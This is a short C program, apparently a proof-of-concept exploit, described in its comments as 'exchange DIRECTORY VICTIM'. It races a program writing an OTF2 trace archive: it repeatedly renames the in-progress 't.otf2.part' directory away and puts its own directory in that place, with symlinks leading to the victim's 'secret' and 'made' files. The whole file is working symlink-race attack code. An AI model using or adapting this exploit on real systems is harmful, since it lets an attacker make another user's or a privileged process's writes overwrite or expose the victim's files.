// Puts a directory with links in the place of an archive that is being written, as the owner of the
// directory above.
//
//   exchange DIRECTORY VICTIM
//
// DIRECTORY/t.otf2.part becomes one whose t.otf2 and t.def lead to VICTIM/secret and VICTIM/made.
#include <stdio.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char text[4096];
    if (argc != 3 || chdir(argv[1]) || mkdir("mine", 0755) || mkdir("mine/t", 0755))
        return 1;
    snprintf(text, sizeof text, "%s/made", argv[2]);
    if (symlink(text, "mine/t.def"))
        return 1;
    snprintf(text, sizeof text, "%s/secret", argv[2]);
    if (symlink(text, "mine/t.otf2"))
        return 1;
    puts("ready");
    fflush(stdout);
    time_t end = time(0) + 60;
    while (time(0) < end)
        if (!rename("t.otf2.part", "gone"))
            return rename("mine", "t.otf2.part") ? 1 : 0;
    return 1;
}
